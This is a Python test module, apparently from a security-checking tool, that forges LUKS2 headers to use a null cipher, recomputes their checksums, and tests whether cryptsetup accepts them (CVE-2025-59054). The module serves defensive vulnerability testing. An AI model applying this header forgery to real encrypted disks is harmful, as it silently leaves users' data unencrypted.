"""LUKS2 headers as a hostile host rewrites them: the key slots are genuine, the segment asks for no encryption.

Sources: LUKS2 On-Disk Format Specification 1.1.1, 2.1 (binary header) and 3 (JSON area); CVE-2025-59054.
"""

import hashlib
import json
import subprocess
import tempfile
from pathlib import Path
from typing import Final

from warily.adversary.attack import Seen, refused, succeeded, undecided
from warily.host.run import find, run

BINARY: Final = 4096
AREA: Final = 16384  # of one header, its JSON included, as cryptsetup makes it here
CHECKSUM: Final = slice(448, 512)
NULL: Final = "cipher_null-ecb"
PASSPHRASE: Final = "the passphrase that the guest would get"  # noqa: S105  # of a disk made to be attacked
SIZE: Final = 4 << 20
TIMEOUT: Final = 120.0
QUICK: Final = ("--pbkdf", "pbkdf2", "--pbkdf-force-iterations", "1000")


def forged_header(folder: Path) -> bytes:
    """A disk's first bytes: a LUKS2 header that opens with the genuine passphrase and encrypts nothing."""
    disk, key = folder / "luks", folder / "luks.key"
    key.write_text(PASSPHRASE)
    disk.write_bytes(bytes(SIZE))
    program = find("cryptsetup", package="cryptsetup-bin")
    words = [program, "luksFormat", "--batch-mode", "--type", "luks2", "--luks2-metadata-size", "16k", *QUICK]
    run([*words, "--luks2-keyslots-size", "1m", "--key-file", key, disk], timeout=TIMEOUT)
    return with_cipher(disk.read_bytes(), NULL)


def with_cipher(disk: bytes, cipher: str) -> bytes:
    """The disk whose two headers name another cipher for its data, with checksums that fit."""
    out = bytearray(disk)
    for at in (0, AREA):
        text, _, _ = bytes(out[at + BINARY : at + AREA]).partition(b"\0")
        described = json.loads(text)
        for segment in described["segments"].values():
            segment["encryption"] = cipher
        changed = json.dumps(described, separators=(",", ":")).encode()
        out[at + BINARY : at + AREA] = changed.ljust(AREA - BINARY, b"\0")
        out[at + CHECKSUM.start : at + CHECKSUM.stop] = bytes(64)
        digest = hashlib.sha256(out[at : at + AREA]).digest()
        out[at + CHECKSUM.start : at + CHECKSUM.start + len(digest)] = digest
    return bytes(out)


def opened_by_cryptsetup() -> Seen:
    """Whether Debian's cryptsetup takes the forged header for the disk that it was."""
    with tempfile.TemporaryDirectory(prefix="warily-attack-") as place:
        folder = Path(place)
        disk = folder / "forged"
        disk.write_bytes(forged_header(folder))
        program = find("cryptsetup", package="cryptsetup-bin")
        words = [program, "open", "--test-passphrase", "--key-file", str(folder / "luks.key"), str(disk)]
        done = subprocess.run(words, capture_output=True, check=False, timeout=TIMEOUT)  # noqa: S603  # a program of the host's, on a file of ours
        shown = run([program, "luksDump", disk], timeout=TIMEOUT).decode("utf-8", "replace")
    line = next((text.strip() for text in shown.splitlines() if NULL in text), None)
    if done.returncode != 0:
        return refused(f"cryptsetup ends with status {done.returncode}: {done.stderr.decode('utf-8', 'replace')}")
    if line is None:
        return undecided("cryptsetup opens it, and does not show the forged cipher")
    return succeeded(f"cryptsetup opens the forged header with the genuine passphrase, and takes from it: {line}")
